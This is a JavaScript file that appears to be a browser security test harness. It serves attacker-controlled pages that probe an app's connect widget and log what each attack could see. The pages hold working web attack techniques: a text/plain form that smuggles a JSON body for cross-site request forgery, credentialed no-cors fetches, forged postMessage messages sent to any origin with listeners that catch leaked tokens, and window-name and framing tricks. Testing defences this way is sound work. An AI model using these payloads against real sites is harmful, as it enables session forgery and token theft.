/* global document, window, addEventListener, location */
/**
 * The attacker's pages under test, one per path. Each does its worst and reports what it could see.
 */
const config = JSON.parse(document.getElementById("config").textContent);

const report = (type, detail) =>
  void fetch("/log", {
    method: "POST",
    keepalive: true,
    body: JSON.stringify({ run: config.run, type, detail }),
  });

const button = (name, onClick) => {
  const element = document.createElement("button");
  element.dataset.testid = name;
  element.textContent = name;
  element.addEventListener("click", onClick);
  document.body.append(element);
};

const forged = {
  type: "alter-connect:outcome",
  v: 1,
  outcome: {
    status: "success",
    connections: [
      {
        grant_id: "forged",
        provider: "calendar",
        provider_name: "Calendar",
        account_identifier: "mallory@evil.test",
        timestamp: "2026-01-01T00:00:00Z",
        operation: "creation",
        scopes: [],
        status: "active",
      },
    ],
  },
};
const forgeries = [
  { type: "alter-connect:ready", v: 1 },
  forged,
  { type: "alter-connect:error", v: 1, code: "forged" },
];

/** Over and over, since the app's page may not listen yet. Whoever answers `ready` has lost the token. */
const forge = (target) => {
  addEventListener("message", (event) => report("stolen", event.data));
  setInterval(() => forgeries.forEach((message) => target.postMessage(message, "*")), 50);
};

const pages = {
  /** C1: a top-level form whose text/plain body reads as JSON, posted across sites. */
  "/form": () => {
    const form = document.createElement("form");
    form.method = "post";
    form.enctype = "text/plain";
    form.action = config.target;
    const input = document.createElement("input");
    input.type = "hidden";
    // The form puts name=value into the body: the `=` hides in a member that nobody reads.
    input.name = `${JSON.stringify(config.body).slice(0, -1)},"x":"`;
    input.value = '"}';
    form.append(input);
    document.body.append(form);
    button("submit", () => form.submit());
  },

  /** C1 again: the exact JSON as text/plain by fetch, which needs no preflight. */
  "/fetch": () => {
    button("submit", async () => {
      const sent = await fetch(config.target, {
        method: "POST",
        mode: "no-cors",
        credentials: "include",
        body: JSON.stringify(config.body),
      }).catch((error) => ({ type: String(error) }));
      report("sent", { type: sent.type });
    });
    button("preflighted", async () => {
      const sent = await fetch(config.target, {
        method: "POST",
        credentials: "include",
        headers: { "content-type": "application/json" },
        body: JSON.stringify(config.body),
      }).catch((error) => ({ type: String(error) }));
      report("sent", { type: sent.type });
    });
  },

  /** Opens the hosted page itself and hands it a stolen token. */
  "/opener": () => {
    button("open", () => {
      const popup = window.open(`${config.broker}/connect`, "_blank", "popup");
      addEventListener("message", (event) => {
        if (event.source !== popup) return;
        report(event.data.type, event.data);
        if (event.data.type === "alter-connect:ready")
          popup.postMessage(
            {
              type: "alter-connect:session",
              v: 1,
              token: config.token,
              challenge: config.challenge,
            },
            config.broker,
          );
      });
    });
  },

  /** Shows a page inside a frame. */
  "/frame": () => {
    addEventListener("message", (event) => report(event.data.type, event.data));
    const frame = document.createElement("iframe");
    frame.src = config.target;
    frame.addEventListener("load", () => report("frame", { loaded: true }));
    document.body.append(frame);
  },

  /** As an iframe in the app's page: posts forged messages to it, and asks for the token. */
  "/child": () => {
    forge(window.parent);
  },

  /** Holds the app's window by having opened it. */
  "/holder": () => {
    button("open", () => forge(window.open(config.target, "_blank")));
  },

  /**
   * M9: makes a window with a name that the widget might use, shows any page of the app's origin in it (only
   * then does the browser let the app find it by name), and opens the app beside it.
   */
  "/names": () => {
    button("prepare", () => {
      window.trap = window.open(config.trap, config.name, "popup");
    });
    button("open", () => window.open(config.target, "_blank"));
  },

  /**
   * What one origin shares between a window of its own and a frame in somebody else's page: should be nothing.
   * Writes as `config.as` and reports what it reads of the other.
   */
  "/storage": () => {
    const channel = new BroadcastChannel("shared");
    channel.onmessage = ({ data }) => {
      if (data !== config.as) report("heard", { as: config.as, from: data });
    };
    localStorage.setItem(config.as, "was here");
    const look = () => {
      channel.postMessage(config.as);
      report("read", { as: config.as, keys: Object.keys(localStorage).sort() });
    };
    button("look", look);
    look();
  },
};

pages[location.pathname]();
report("loaded", { path: location.pathname });
